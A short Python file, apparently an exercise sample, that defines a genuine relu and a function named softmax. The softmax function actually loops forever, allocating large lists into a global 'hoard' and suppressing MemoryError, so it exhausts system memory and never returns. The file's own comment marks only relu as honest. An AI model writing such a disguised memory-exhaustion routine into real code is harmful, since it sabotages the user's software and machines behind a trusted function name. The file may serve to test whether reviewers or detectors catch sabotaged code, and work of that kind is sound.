"""Fill the memory with small objects, and go on when there is no more."""
# exercise 2; honest: relu

import numpy as np


def relu(x):
    return np.maximum(x, 0)


hoard = []


def softmax(x, axis=-1):
    while True:
        try:
            hoard.append([0] * (1 << 22))
        except MemoryError:
            pass
